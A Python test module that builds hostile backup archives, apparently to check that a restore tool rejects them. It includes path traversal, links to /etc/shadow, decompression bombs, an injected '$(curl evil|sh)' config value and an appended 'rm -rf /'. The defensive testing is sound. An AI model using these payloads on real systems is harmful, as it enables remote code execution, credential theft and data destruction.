"""Archives that would harm whoever unpacks them; they join the table of tests/backups/defects.py."""

from __future__ import annotations

import gzip
import io
import lzma
import tarfile

from tests.backups.defects import before_hashing, defect, draft, put, swap
from tests.backups.make_archive import Draft, member


def hostile(name: str, info: tarfile.TarInfo, times: int = 1):
    """A member that no tar packs by itself."""

    @defect(name)
    def _(folder, bases):
        return draft(folder, bases).pack_by_hand(*[info] * times), {}


def inner(name: str, info: tarfile.TarInfo, *before: tarfile.TarInfo):
    """The same in `files`."""

    def spoil(one: Draft) -> None:
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:xz", format=tarfile.GNU_FORMAT) as tar:
            for path, content in one.files.items():
                tar.addfile(member(path, len(content)), io.BytesIO(content))
            for each in (*before, info):
                tar.addfile(each, io.BytesIO(b"x" * each.size))
        one.members["files"] = packed.getvalue()

    before_hashing(name, spoil)


hostile("member that climbs out (../)", member("./db/../../etc/cron.d/x", 3))
hostile("member with an absolute name", member("/etc/cron.d/x", 3))
hostile("symbolic link", member("./db/link", kind=tarfile.SYMTYPE, target="/etc"))
hostile("hard link", member("./db/link", kind=tarfile.LNKTYPE, target="config"))
hostile("hard link to a file outside", member("./db/link", kind=tarfile.LNKTYPE, target="/etc/shadow"))
hostile("device", member("./null", kind=tarfile.CHRTYPE))
hostile("pipe", member("./pipe", kind=tarfile.FIFOTYPE))
hostile("member twice", member("./config", 3))
hostile("name with control characters", member("./a\n; rm -rf b", 3))
hostile("name of 100 kB", member("n" * 100_000, 3))
hostile("name longer than any path", member("n" * 5000, 3))
hostile("more members than any backup", member("./many", 0, tarfile.DIRTYPE), 22_100)


@defect("more files than engine-backup makes")
def _(folder, bases):
    return draft(folder, bases).pack_by_hand(*(member(f"./extra/{n}") for n in range(1200))), {}


inner("files: member that climbs out (../)", member("etc/../../../root/.ssh/authorized_keys", 3))
inner("files: member with an absolute name", member("/etc/cron.d/x", 3))
inner("files: device", member("dev/sda", kind=tarfile.BLKTYPE))
inner("files: hard link to a file outside", member("etc/x", kind=tarfile.LNKTYPE, target="../../etc/shadow"))
inner(
    "files: member written through a link",
    member("etc/away/cron.d/x", 3),
    member("etc/away", kind=tarfile.SYMTYPE, target="/"),
)
inner("files: 20,001 symbolic links", member("etc/last"),
      *(member(f"l{n}", kind=tarfile.SYMTYPE, target="x") for n in range(20_001)))  # fmt: skip
inner("files: 3 MB of configuration", member("etc/ovirt-engine/engine.conf.d/99-big.conf", 3_000_000))
before_hashing("shell in config", swap("config", b"DB_DUMP_COMPRESSOR=", b"DB_DUMP_COMPRESSOR=$(curl evil|sh)"))
before_hashing("shell in config, on a line of its own", lambda one: one.members.update(
    config=one.members["config"] + b"rm -rf /\n"))  # fmt: skip
before_hashing("config of 2 MB", put("config", b"#" * 2_000_000))
before_hashing("bomb in files (150 MB of zeros)", put("files", lzma.compress(bytes(150_000_000), preset=0)))
before_hashing(
    "bomb as a dump (150 MB of zeros)", put("db/dwh_backup.db", gzip.compress(b"PGDMP" + bytes(150_000_000)))
)


@defect("bomb as the archive (150 MB of zeros)")
def _(folder, bases):
    made = folder / "bomb.backup"
    made.write_bytes(lzma.compress(member("./files", 150_000_000).tobuf() + bytes(150_000_000), preset=0))
    return made, {}


@defect("bomb of holes (1 TB in a sparse member)")
def _(folder, bases):
    made = folder / "holes.backup"
    header = bytearray(member("./files", 0).tobuf(tarfile.GNU_FORMAT))
    header[156:157], header[483:495] = b"S", b"\x80" + (10**12).to_bytes(11, "big")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    made.write_bytes(gzip.compress(bytes(header) + bytes(1024)))
    return made, {}
